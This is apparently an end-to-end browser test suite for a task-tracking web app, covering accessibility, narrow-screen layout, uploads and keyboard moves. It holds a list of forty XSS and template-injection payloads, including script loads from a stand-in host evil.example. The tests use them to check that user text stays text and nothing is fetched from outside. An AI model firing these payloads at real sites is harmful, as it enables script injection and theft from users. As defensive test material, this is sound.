"""What holds on every page: assistive technology, narrow screens, and text that would like to be more than text."""

import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from api.pages.addresses import ADDRESSES
from tests.e2e.pages.axe import violations
from tests.e2e.pages.desk import PATIENCE, Desk, wait_for_count
from tests.support.service import wait_until

OpenPage = Callable[..., Page]
PAGES = (
    "/review", "/inbox", "/inbox/mail", "/organizations/x/tasks?view=kanban", "/organizations/x/tasks?view=table",
    "/organizations/x/tasks?view=calendar", "/organizations/x/tasks?view=list", "/tasks", "/mine", "/reports/sla",
    "/reports/stale", "/reports/pace", "/reports/extraction", "/notifications?state=all", "/settings/me", "/settings/workspace", "/settings/members", "/settings/keys", "/settings/intake", "/settings/policies", "/settings/rules", "/settings/webhooks", "/settings/audit",
    "/customers", "/customers/cus_look", "/customers/cus_look?view=timeline", "/projects", "/projects/prj_look", "/milestones/mst_look", "/review/{source}", "/inbox/{source}", "/t/{number}",
    "/organizations/x/tasks?view=table&status=pending&tag=look&customer=cus_look", "/templates", "/proposals", "/proposals?state=accepted", "/nothing/here",
)  # fmt: skip
# Pages for whoever is not signed in, with links that are not good any more.
OUTSIDE = ("/sign-in", "/forgot", "/welcome", "/link/gone", "/join/gone", "/reset/gone")
# Addresses that lead to another one.
LEADING_ON = ("/", "/reports", "/settings")
LOOKS: dict[str, dict[str, Any]] = {
    "light": {"color_scheme": "light"},
    "dark": {"color_scheme": "dark"},
    "narrow": {"viewport": {"width": 320, "height": 640}, "has_touch": True},
    "forced colours": {"forced_colors": "active"},
}
THINGS = {"customer": "cus", "project": "prj", "milestone": "mst"}
# A screen of 1280 by 1024 at 400 %, as browsers lay it out.
ZOOMED: dict[str, Any] = {"viewport": {"width": 320, "height": 256}, "device_scale_factor": 4}
CUSTOMER = {"type": "customer", "id": "cus_attack"}
OWN = "document.title='owned'"
# Forty ways in which text has become a script somewhere: elements, attributes, addresses, templates, styles, and names.
ATTACKS = (
    f"<script>{OWN}</script>", f'<img src=x onerror="{OWN}">', f'"><svg onload={OWN}>', f"javascript:{OWN}",
    "{{constructor.constructor('1')()}}", "</title><script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'>", "txt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
    f"<body onload={OWN}>", f"<details open ontoggle={OWN}>", f"<input autofocus onfocus={OWN}>",
    f"<video><source onerror={OWN}>", f"<marquee onstart={OWN}>", f"<a href=javascript:{OWN}>here</a>",
    "<a href='//evil.example'>here</a>", f"<object data=javascript:{OWN}>", "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    f"<form action=javascript:{OWN}><button>go</button></form>", "<math><mi xlink:href='data:x,<script>1</script>'>",
    f"<svg><script>{OWN}</script></svg>", f"<svg><animate onbegin={OWN} attributeName=x>",
    f"<img srcset='//evil.example/x 1x' onerror={OWN}>", "<img src=//evil.example/pixel.gif>",
    f"<template><img src=x onerror={OWN}></template>", f"<noscript><img src=x onerror={OWN}></noscript>",
    f"<textarea></textarea><img src=x onerror={OWN}>", f"<!--><img src=x onerror={OWN}>-->", f"';{OWN};//",
    f'";{OWN};//', f"`${{{OWN}}}`", f"${{{OWN}}}", "#{7*7} <%= 7*7 %> {7*7}", f"&lt;script&gt;{OWN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{OWN}", f"data:text/html,<script>{OWN}</script>", f"[here](javascript:{OWN})",
)  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def pages(desk: Desk) -> tuple[str, ...]:
    """Something of everything, so that no list is empty; the addresses of all pages with it."""
    source = desk.read(
        "Anna Li: I'll send the report by Friday.\nSpeaker 1: Maybe we could meet in spring.\n", "A call to look at"
    )
    desk.suggest(["Look at this suggestion"])
    for number, status in enumerate(("unaddressed", "pending", "in_progress", "on_hold", "completed")):
        body = {
            "title": f"Look at task {number}",
            "status": status,
            "due_at": "2026-01-05",
            "sla_hours": 4,
            "priority": "high",
        }
        desk.call("POST", "/api/tasks", body)
    desk.call("PUT", "/api/resources/customer/cus_look", {"name": "Look & Sons", "email_domains": ["look.example"]})
    links = [{"type": kind, "id": f"{prefix}_look"} for kind, prefix in THINGS.items()]
    made = desk.call("POST", "/api/tasks", {"title": "Look after it", "links": links, "due_at": "2026-01-09"})
    for kind, prefix in THINGS.items():
        if kind != "customer":
            desk.call("PUT", f"/api/resources/{kind}/{prefix}_look", {"name": f"Look at a {kind}"})
    desk.call(
        "POST", "/api/tasks/templates", {"name": "Look around", "items": [{"title": "Look", "due_offset": "P2D"}]}
    )
    desk.call(
        "POST",
        "/api/rules",
        {"name": "Look late", "trigger": "task_overdue", "actions": {"priority": "urgent"}, "is_active": False},
    )
    return tuple(path.format(source=source, number=made["task"]["number"]) for path in PAGES)


def test_every_address_is_looked_at() -> None:
    looked_at = [path.partition("?")[0] for path in (*PAGES, *OUTSIDE, *LEADING_ON)]
    missing = [
        address
        for address in ADDRESSES
        if not any(re.fullmatch(re.sub("<[a-z]+>", "[^/]+", address), path) for path in looked_at)
    ]
    assert missing == []


def show(page: Page, path: str) -> None:
    """The page with what is fetched after it."""
    page.goto(path)
    page.wait_for_selector("main h1, main h2", state="attached")
    if path.startswith("/settings"):
        page.wait_for_selector(".settings-body > *", state="attached")
    if path.startswith("/reports"):
        page.wait_for_selector(".reports .headline, .reports .empty", state="attached")
    wait_for_count(page, ".bone", 0)


@pytest.mark.parametrize("look", LOOKS)
def test_assistive_technology_finds_nothing_wrong_and_nothing_moves_for_whoever_wants_that(
    look: str, open_page: OpenPage, pages: tuple[str, ...]
) -> None:
    page = open_page("/review", **LOOKS[look], reduced_motion="reduce")
    faults: dict[str, list[str]] = {}
    for path in pages:
        show(page, path)
        if found := [*violations(page), *moving(page)]:
            faults[path] = found
    assert faults == {}


def moving(page: Page) -> list[str]:
    """What runs on the page by itself."""
    names: list[str] = page.evaluate(
        "document.getAnimations().filter(each => each.playState === 'running').map(each => 'moves: ' + each.animationName)"
    )
    return names


@pytest.mark.parametrize("look", LOOKS)
def test_pages_for_whoever_is_outside_are_accessible_and_fit(look: str, desk: Desk, browser: Browser) -> None:
    context = browser.new_context(base_url=desk.address, **LOOKS[look], reduced_motion="reduce")
    page = context.new_page()
    faults: dict[str, list[str]] = {}
    for path in OUTSIDE:
        show(page, path)
        wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
        if found := [*violations(page), *moving(page), *(["scrolls sideways"] if wide > 0 else [])]:
            faults[path] = found
    context.close()
    assert faults == {}


def test_sheets_are_accessible_too(open_page: OpenPage) -> None:
    page = open_page("/review", reduced_motion="reduce")
    page.wait_for_selector(".row.current")
    faults: dict[str, list[str]] = {}
    for key in ("?", "/", "c"):
        page.keyboard.press(key)
        page.wait_for_selector("dialog.sheet")
        if found := violations(page):
            faults[key] = found
        page.keyboard.press("Escape")
        page.wait_for_selector("dialog.sheet", state="detached")
    assert faults == {}


@pytest.mark.parametrize("look", [LOOKS["narrow"], ZOOMED], ids=["narrow", "400 %"])
def test_nothing_scrolls_sideways_on_a_narrow_screen(
    look: dict[str, Any], open_page: OpenPage, pages: tuple[str, ...]
) -> None:
    page = open_page("/review", **look)
    for path in pages:
        show(page, path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 320, path


def test_attacks_typed_into_every_field_stay_text(open_page: OpenPage, pages: tuple[str, ...]) -> None:
    page = open_page("/review/none")
    typed = 0
    for path in pages:
        show(page, path)
        fields = page.locator("main :is(textarea, input:not([type]), input[type=search], input[type=text]):visible")
        for index in range(fields.count()):
            field = fields.nth(index)
            if not field.is_editable():
                continue
            field.fill(" ".join(ATTACKS))
            field.blur()
            typed += 1
        assert page.title() != "owned", path
        assert page.evaluate("window.violations") == [], path
    assert typed > 20


@pytest.fixture(scope="module")
def attacked(desk: Desk) -> tuple[str, int]:
    """Every text that others see has an attack in it, or all of them; a source and a task that have."""
    assert len(set(ATTACKS)) == 40
    everything = "\n".join(ATTACKS)
    desk.suggest(list(ATTACKS))
    lines = "\n".join(f"Anna Li: I'll send {attack} to Bob." for attack in ATTACKS)
    source = desk.read(lines, ATTACKS[0])
    desk.call("PUT", "/api/resources/customer/cus_attack", {"name": ATTACKS[1]})
    body = {"title": ATTACKS[2], "description": everything, "tags": [ATTACKS[3]], "links": [CUSTOMER]}
    task = desk.call("POST", "/api/tasks", body)["task"]
    desk.call("POST", f"/api/tasks/{task['id']}/comments", {"text": everything})
    items = [{"title": attack} for attack in ATTACKS]
    template = desk.call("POST", "/api/tasks/templates", {"name": ATTACKS[4], "items": items})["template"]
    desk.call("POST", f"/api/tasks/templates/{template['id']}/apply", {"anchor_date": "2026-01-05"})
    desk.call("POST", "/api/views", {"name": ATTACKS[5], "query": "overdue=1", "is_shared": True})
    rule = {"name": ATTACKS[6], "trigger": "task_overdue", "actions": {"priority": "urgent"}, "is_active": False}
    desk.call("POST", "/api/rules", rule)
    return source, task["number"]


def test_text_from_outside_stays_text_and_nothing_is_fetched_from_elsewhere(
    desk: Desk, open_page: OpenPage, attacked: tuple[str, int]
) -> None:
    source, number = attacked
    page = open_page("/review/none")
    outside: list[str] = []
    page.on("request", lambda sent: None if sent.url.startswith((desk.address, "blob:")) else outside.append(sent.url))
    for path in (
        "/review/none", f"/review/{source}", f"/inbox/{source}", "/inbox", "/tasks", f"/t/{number}",
        "/organizations/x/tasks?view=kanban", "/organizations/x/tasks?view=list", "/templates", "/customers",
        "/customers/cus_attack", "/settings/rules",
    ):  # fmt: skip
        show(page, path)
        assert page.title() != "owned"
        assert page.evaluate("window.violations") == []
        assert page.locator("main iframe, main img, main script, main object, main embed, main style").count() == 0
    assert outside == []


def test_files_are_handed_in_with_a_result_for_each(open_page: OpenPage, desk: Desk) -> None:
    page = open_page("/inbox")
    good = [
        {
            "name": f"call {number}.txt",
            "mimeType": "text/plain",
            "buffer": f"Anna Li: I'll paint room {number} by Friday.".encode(),
        }
        for number in range(9)
    ]
    bad = {"name": "empty.txt", "mimeType": "text/plain", "buffer": b""}
    page.set_input_files("input[type=file]", [*good, bad])
    page.wait_for_selector(".uploads li")

    def outcomes() -> list[str]:
        return page.locator(".uploads .inbox-outcome").all_inner_texts()

    wait_until(
        lambda: sum("suggestion waits" in each for each in outcomes()) == 9, seconds=PATIENCE, what="nine are read"
    )
    assert len(outcomes()) == 10
    wait_for_count(page, ".uploads .bad-text", 1)


def test_a_card_is_moved_by_keys_and_back(desk: Desk, open_page: OpenPage) -> None:
    task = desk.call("POST", "/api/tasks", {"title": "Move this card", "status": "pending", "due_at": "2025-01-01"})[
        "task"
    ]
    page = open_page("/organizations/x/tasks?view=kanban&q=%22Move+this+card%22")
    page.wait_for_selector(".task-card")
    page.keyboard.press("j")
    page.wait_for_selector(".task-card.current")
    page.keyboard.press("Shift+ArrowRight")

    def status() -> str:
        return str(desk.call("GET", f"/api/tasks/{task['id']}")["task"]["status"])

    wait_until(lambda: status() == "in_progress", seconds=PATIENCE, what="it is in the next column")
    page.keyboard.press("u")
    wait_until(lambda: status() == "pending", seconds=PATIENCE, what="it is back")
